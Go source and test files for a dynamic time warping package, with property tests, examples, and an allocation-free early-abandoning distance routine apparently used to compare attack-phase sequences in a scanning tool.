			t.Fatalf("iter %d: +Inf cutoff abandoned (n=%d m=%d w=%d)", iter, n, m, c.opts.Window)
		}
		if sum != want && !(math.IsInf(sum, 1) && math.IsInf(want, 1)) {
			t.Fatalf("iter %d: DistanceAbandon sum %v != Distance %v (n=%d m=%d w=%d)",
				iter, sum, want, n, m, c.opts.Window)
		}
		wSum, wLen := DistanceWithPathLen(n, m, c.d, c.opts)
		if wSum != sum && !(math.IsInf(wSum, 1) && math.IsInf(sum, 1)) {
			t.Fatalf("iter %d: DistanceWithPathLen sum %v != %v", iter, wSum, sum)
		}
		if wLen != pathLen {
			t.Fatalf("iter %d: path length mismatch %d != %d", iter, wLen, pathLen)
		}
	}
}

// Property: DistanceWithPathLen's distance equals Distance, and its
// path length is exactly the length of the path Path reconstructs and
// lies in the admissible range [max(n,m), n+m-1].
func TestPropertyWithPathLenMatchesDistanceAndPath(t *testing.T) {
	rng := rand.New(rand.NewSource(2))
	for iter := 0; iter < 2000; iter++ {
		c := drawCase(rng)
		n, m := len(c.a), len(c.b)
		want := Distance(n, m, c.d, c.opts)
		sum, pathLen := DistanceWithPathLen(n, m, c.d, c.opts)
		if sum != want && !(math.IsInf(sum, 1) && math.IsInf(want, 1)) {
			t.Fatalf("iter %d: sum %v != Distance %v", iter, sum, want)
		}
		pSum, path := Path(n, m, c.d, c.opts)
		if pSum != sum && !(math.IsInf(pSum, 1) && math.IsInf(sum, 1)) {
			t.Fatalf("iter %d: Path sum %v != %v", iter, pSum, sum)
		}
		if len(path) != pathLen {
			t.Fatalf("iter %d: len(Path) %d != pathLen %d", iter, len(path), pathLen)
		}
		if n > 0 && m > 0 {
			lo, hi := n, n+m-1
			if m > n {
				lo = m
			}
			if pathLen < lo || pathLen > hi {
				t.Fatalf("iter %d: path length %d outside [%d,%d]", iter, pathLen, lo, hi)
			}
		}
	}
}

// Property: the DTW distance is symmetric when the point distance is —
// D(a,b) == D(b,a) under the transposed distance function.
func TestPropertySymmetry(t *testing.T) {
	rng := rand.New(rand.NewSource(3))
	for iter := 0; iter < 2000; iter++ {
		c := drawCase(rng)
		n, m := len(c.a), len(c.b)
		ab := Distance(n, m, c.d, c.opts)
		ba := Distance(m, n, c.dT, c.opts)
		if ab != ba && !(math.IsInf(ab, 1) && math.IsInf(ba, 1)) {
			t.Fatalf("iter %d: D(a,b)=%v != D(b,a)=%v (n=%d m=%d w=%d)",
				iter, ab, ba, n, m, c.opts.Window)
		}
	}
}

// Property: with a finite cutoff, DistanceAbandon either completes with
// the exact answer or abandons with a certified lower bound — a sum
// strictly above the cutoff and never above the true distance.
func TestPropertyFiniteCutoffSoundness(t *testing.T) {
	rng := rand.New(rand.NewSource(4))
	for iter := 0; iter < 2000; iter++ {
		c := drawCase(rng)
		n, m := len(c.a), len(c.b)
		if n == 0 || m == 0 {
			continue
		}
		exact := Distance(n, m, c.d, c.opts)
		cutoff := rng.Float64() * 20 * float64(n+m)
		sum, pathLen, abandoned := DistanceAbandon(n, m, c.d, c.opts, cutoff)
		if !abandoned {
			if sum != exact {
				t.Fatalf("iter %d: completed sum %v != exact %v", iter, sum, exact)
			}
			if sum > cutoff && !math.IsInf(sum, 1) {
				// Completing above the cutoff is allowed only when no row
				// ever proved the bound (possible: the final cell can
				// exceed the cutoff while some cell of each row stayed
				// under); the result must still be exact, checked above.
				continue
			}
			continue
		}
		if pathLen != 0 {
			t.Fatalf("iter %d: abandoned with pathLen %d", iter, pathLen)
		}
		if !(sum > cutoff) {
			t.Fatalf("iter %d: abandoned but sum %v <= cutoff %v", iter, sum, cutoff)
		}
		if sum > exact {
			t.Fatalf("iter %d: abandon bound %v exceeds exact %v", iter, sum, exact)
		}
		if exact <= cutoff {
			t.Fatalf("iter %d: abandoned although exact %v <= cutoff %v", iter, exact, cutoff)
		}
	}
}
