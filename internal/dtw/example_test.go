package dtw_test

import (
	"fmt"
	"math"

	"repro/internal/dtw"
)

// A stretched copy of a sequence aligns with zero cost — the property
// that lets CST-BBS comparison tolerate unrolled or repeated attack
// phases.
func ExampleDistance() {
	a := []float64{0, 1, 2, 3}
	b := []float64{0, 0, 1, 1, 2, 2, 3, 3}
	d := func(i, j int) float64 { return math.Abs(a[i] - b[j]) }
	fmt.Println(dtw.Distance(len(a), len(b), d, dtw.Options{}))
	// Output: 0
}

// Converting a distance into the paper's similarity score.
func ExampleSimilarity() {
	fmt.Println(dtw.Similarity(0), dtw.Similarity(1))
	// Output: 1 0.5
}
