package dtw

import "math"

// Scratch holds the rolling rows the O(m)-memory DTW evaluations use.
// DistanceAbandonScratch reuses them across calls, so a scan worker that
// scores thousands of (target, entry) pairs allocates its DTW state once
// instead of four slices per comparison — the allocation-free warm path
// pinned by TestScanZeroAllocWarmPath in internal/scan.
//
// A Scratch is not safe for concurrent use; give each worker its own.
// The zero value is ready.
type Scratch struct {
	prev, cur       []float64
	prevLen, curLen []int
}

// resize makes every row at least m+1 long, growing geometrically so a
// stream of mixed-size comparisons settles on the largest and stops
// allocating.
func (s *Scratch) resize(m int) {
	if cap(s.prev) >= m+1 {
		s.prev = s.prev[:m+1]
		s.cur = s.cur[:m+1]
		s.prevLen = s.prevLen[:m+1]
		s.curLen = s.curLen[:m+1]
		return
	}
	n := 2 * (m + 1)
	s.prev = make([]float64, m+1, n)
	s.cur = make([]float64, m+1, n)
	s.prevLen = make([]int, m+1, n)
	s.curLen = make([]int, m+1, n)
}

// DistanceAbandonScratch is DistanceAbandon evaluated in caller-owned
// scratch rows: bit-identical results (same recurrence, same
// tie-breaking, same float expressions), zero allocations once the
// scratch has grown to the working row width.
func DistanceAbandonScratch(n, m int, d DistFunc, opts Options, cutoff float64, s *Scratch) (float64, int, bool) {
	switch {
	case n == 0 && m == 0:
		return 0, 0, false
	case n == 0 || m == 0:
		return math.Inf(1), 0, false
	}
	w := opts.Window
	if w > 0 {
		diff := n - m
		if diff < 0 {
			diff = -diff
		}
		if w < diff {
			w = diff
		}
	}
	inf := math.Inf(1)
	s.resize(m)
	prev, cur := s.prev, s.cur
	prevLen, curLen := s.prevLen, s.curLen
	for j := range prev {
		prev[j] = inf
		prevLen[j] = 0
	}
	prev[0] = 0
	for i := 1; i <= n; i++ {
		for j := range cur {
			cur[j] = inf
		}
		lo, hi := 1, m
		if w > 0 {
			lo = i - w
			if lo < 1 {
				lo = 1
			}
			hi = i + w
			if hi > m {
				hi = m
			}
		}
		rowMin := inf
		for j := lo; j <= hi; j++ {
			cost := d(i-1, j-1)
			diag, up, left := prev[j-1], prev[j], cur[j-1]
			// Predecessor choice mirrors Path's backtracking exactly so
			// the tracked path length matches len(Path(...)).
			var best float64
			var blen int
			switch {
			case diag <= up && diag <= left:
				best, blen = diag, prevLen[j-1]
			case up <= left:
				best, blen = up, prevLen[j]
			default:
				best, blen = left, curLen[j-1]
			}
			cur[j] = cost + best
			curLen[j] = blen + 1
			if cur[j] < rowMin {
				rowMin = cur[j]
			}
		}
		if rowMin > cutoff {
			// Every admissible path crosses row i at one of these cells
			// and point costs are non-negative, so the final sum is at
			// least rowMin > cutoff: abandon with the proof in hand.
			return rowMin, 0, true
		}
		prev, cur = cur, prev
		prevLen, curLen = curLen, prevLen
	}
	return prev[m], prevLen[m], false
}
