package dtw

import (
	"math"
	"math/rand"
	"testing"
	"testing/quick"
)

// absDist builds a DistFunc over two float slices.
func absDist(a, b []float64) DistFunc {
	return func(i, j int) float64 { return math.Abs(a[i] - b[j]) }
}

func TestDistanceIdentical(t *testing.T) {
	a := []float64{1, 2, 3, 4}
	if got := Distance(len(a), len(a), absDist(a, a), Options{}); got != 0 {
		t.Errorf("identical = %v", got)
	}
}

func TestDistanceEmpty(t *testing.T) {
	if got := Distance(0, 0, nil, Options{}); got != 0 {
		t.Errorf("both empty = %v", got)
	}
	a := []float64{1}
	if got := Distance(1, 0, absDist(a, nil), Options{}); !math.IsInf(got, 1) {
		t.Errorf("vs empty = %v, want +Inf", got)
	}
	if got := Distance(0, 1, absDist(nil, a), Options{}); !math.IsInf(got, 1) {
		t.Errorf("empty vs = %v, want +Inf", got)
	}
}

func TestDistanceWarping(t *testing.T) {
	// A stretched copy aligns perfectly: DTW must be 0 while pointwise
	// distance would not be.
	a := []float64{0, 1, 2, 3}
	b := []float64{0, 0, 1, 1, 2, 2, 3, 3}
	if got := Distance(len(a), len(b), absDist(a, b), Options{}); got != 0 {
		t.Errorf("stretched = %v, want 0", got)
	}
}

func TestDistanceSimpleMismatch(t *testing.T) {
	a := []float64{0, 0}
	b := []float64{1, 1}
	// Optimal path: diagonal twice, cost 2.
	if got := Distance(2, 2, absDist(a, b), Options{}); got != 2 {
		t.Errorf("mismatch = %v, want 2", got)
	}
}

func TestWindowedDistance(t *testing.T) {
	a := []float64{0, 1, 2, 3, 4, 5}
	b := []float64{0, 1, 2, 3, 4, 5}
	full := Distance(6, 6, absDist(a, b), Options{})
	band := Distance(6, 6, absDist(a, b), Options{Window: 1})
	if full != 0 || band != 0 {
		t.Errorf("full=%v band=%v", full, band)
	}
	// Band must never beat the unconstrained optimum.
	c := []float64{5, 4, 3, 2, 1, 0}
	fullC := Distance(6, 6, absDist(a, c), Options{})
	bandC := Distance(6, 6, absDist(a, c), Options{Window: 1})
	if bandC < fullC {
		t.Errorf("banded %v < full %v", bandC, fullC)
	}
}

func TestWindowAutoWiden(t *testing.T) {
	// len difference 4 with window 1: band must widen or no path exists.
	a := []float64{1, 1, 1, 1, 1, 1}
	b := []float64{1, 1}
	got := Distance(len(a), len(b), absDist(a, b), Options{Window: 1})
	if math.IsInf(got, 1) {
		t.Error("window failed to widen; no alignment found")
	}
}

func TestPathProperties(t *testing.T) {
	a := []float64{0, 1, 2}
	b := []float64{0, 2}
	d, path := Path(len(a), len(b), absDist(a, b), Options{})
	dd := Distance(len(a), len(b), absDist(a, b), Options{})
	if d != dd {
		t.Errorf("Path distance %v != Distance %v", d, dd)
	}
	if len(path) == 0 {
		t.Fatal("empty path")
	}
	if path[0] != [2]int{0, 0} {
		t.Errorf("path start = %v", path[0])
	}
	if path[len(path)-1] != [2]int{len(a) - 1, len(b) - 1} {
		t.Errorf("path end = %v", path[len(path)-1])
	}
	// Monotone, unit steps.
	for k := 1; k < len(path); k++ {
		di := path[k][0] - path[k-1][0]
		dj := path[k][1] - path[k-1][1]
		if di < 0 || dj < 0 || di > 1 || dj > 1 || (di == 0 && dj == 0) {
			t.Errorf("illegal step %v -> %v", path[k-1], path[k])
		}
	}
}

func TestPathEmpty(t *testing.T) {
	if d, p := Path(0, 0, nil, Options{}); d != 0 || p != nil {
		t.Error("empty Path wrong")
	}
	a := []float64{1}
	if d, _ := Path(1, 0, absDist(a, nil), Options{}); !math.IsInf(d, 1) {
		t.Error("Path vs empty must be +Inf")
	}
}

func TestSimilarity(t *testing.T) {
	if got := Similarity(0); got != 1 {
		t.Errorf("sim(0) = %v", got)
	}
	if got := Similarity(1); got != 0.5 {
		t.Errorf("sim(1) = %v", got)
	}
	if got := Similarity(math.Inf(1)); got != 0 {
		t.Errorf("sim(inf) = %v", got)
	}
	// Monotone decreasing.
	if Similarity(2) >= Similarity(1) {
		t.Error("similarity must decrease with distance")
	}
}

// Properties on random sequences: non-negativity, symmetry, zero on
// identical input, Path agrees with Distance, banded >= full.
func TestDTWProperties(t *testing.T) {
	f := func(seed int64) bool {
		rng := rand.New(rand.NewSource(seed))
		n, m := 1+rng.Intn(10), 1+rng.Intn(10)
		a := make([]float64, n)
		b := make([]float64, m)
		for i := range a {
			a[i] = float64(rng.Intn(8))
		}
		for j := range b {
			b[j] = float64(rng.Intn(8))
		}
		dab := Distance(n, m, absDist(a, b), Options{})
		dba := Distance(m, n, absDist(b, a), Options{})
		if dab < 0 || math.Abs(dab-dba) > 1e-9 {
			return false
		}
		if Distance(n, n, absDist(a, a), Options{}) != 0 {
			return false
		}
		pd, _ := Path(n, m, absDist(a, b), Options{})
		if math.Abs(pd-dab) > 1e-9 {
			return false
		}
		band := Distance(n, m, absDist(a, b), Options{Window: 2})
		return band >= dab-1e-9
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 150}); err != nil {
		t.Error(err)
	}
}

// DistanceWithPathLen must reproduce Path's (sum, len(path)) pair
// exactly — including on tie-heavy integer costs, where the tracked
// length is only correct if the forward predecessor choice mirrors the
// backtracking tie-break.
func TestDistanceWithPathLenMatchesPath(t *testing.T) {
	f := func(seed int64) bool {
		rng := rand.New(rand.NewSource(seed))
		n, m := 1+rng.Intn(12), 1+rng.Intn(12)
		a := make([]float64, n)
		b := make([]float64, m)
		for i := range a {
			a[i] = float64(rng.Intn(4)) // small ints force frequent ties
		}
		for j := range b {
			b[j] = float64(rng.Intn(4))
		}
		for _, w := range []int{0, 1, 3} {
			opts := Options{Window: w}
			ps, path := Path(n, m, absDist(a, b), opts)
			ds, plen := DistanceWithPathLen(n, m, absDist(a, b), opts)
			if ds != ps || plen != len(path) {
				t.Logf("seed=%d n=%d m=%d w=%d: Path=(%v,%d) DistanceWithPathLen=(%v,%d)",
					seed, n, m, w, ps, len(path), ds, plen)
				return false
			}
		}
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 300}); err != nil {
		t.Error(err)
	}
}

func TestDistanceWithPathLenEmpty(t *testing.T) {
	if s, l := DistanceWithPathLen(0, 0, nil, Options{}); s != 0 || l != 0 {
		t.Errorf("both empty = (%v,%d)", s, l)
	}
	a := []float64{1}
	if s, l := DistanceWithPathLen(1, 0, absDist(a, nil), Options{}); !math.IsInf(s, 1) || l != 0 {
		t.Errorf("vs empty = (%v,%d), want (+Inf,0)", s, l)
	}
}

// An infinite cutoff must never abandon and must return the exact
// result; a finite cutoff may only abandon when the true sum exceeds it,
// and the abandoned sum must be a valid lower bound.
func TestDistanceAbandonContract(t *testing.T) {
	f := func(seed int64) bool {
		rng := rand.New(rand.NewSource(seed))
		n, m := 1+rng.Intn(10), 1+rng.Intn(10)
		a := make([]float64, n)
		b := make([]float64, m)
		for i := range a {
			a[i] = rng.Float64() * 4
		}
		for j := range b {
			b[j] = rng.Float64() * 4
		}
		opts := Options{Window: rng.Intn(3)}
		exact, plen := DistanceWithPathLen(n, m, absDist(a, b), opts)

		if s, l, ab := DistanceAbandon(n, m, absDist(a, b), opts, math.Inf(1)); ab || s != exact || l != plen {
			return false
		}
		cutoff := rng.Float64() * exact * 1.5
		s, _, ab := DistanceAbandon(n, m, absDist(a, b), opts, cutoff)
		if ab {
			// Abandoning requires a proof: exact > cutoff, and the
			// returned sum is a lower bound on the exact sum.
			return exact > cutoff && s > cutoff && s <= exact
		}
		return s == exact
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 300}); err != nil {
		t.Error(err)
	}
}

func TestDistanceAbandonTriggers(t *testing.T) {
	a := []float64{0, 0, 0, 0}
	b := []float64{5, 5, 5, 5}
	// Exact sum is 20; a cutoff of 1 must abandon on the first row.
	s, l, ab := DistanceAbandon(4, 4, absDist(a, b), Options{}, 1)
	if !ab || l != 0 || s <= 1 {
		t.Errorf("abandon = (%v,%d,%v)", s, l, ab)
	}
}

func TestPathWithWindow(t *testing.T) {
	a := []float64{0, 1, 2, 3, 4}
	b := []float64{0, 1, 2, 3, 4}
	d, path := Path(len(a), len(b), absDist(a, b), Options{Window: 1})
	if d != 0 {
		t.Errorf("banded identical distance = %v", d)
	}
	if len(path) != 5 {
		t.Errorf("diagonal path length = %d", len(path))
	}
	// Band narrower than the length difference must widen.
	c := []float64{0, 1}
	d2, p2 := Path(len(a), len(c), absDist(a, c), Options{Window: 1})
	if math.IsInf(d2, 1) || len(p2) == 0 {
		t.Error("banded path must auto-widen for unequal lengths")
	}
}
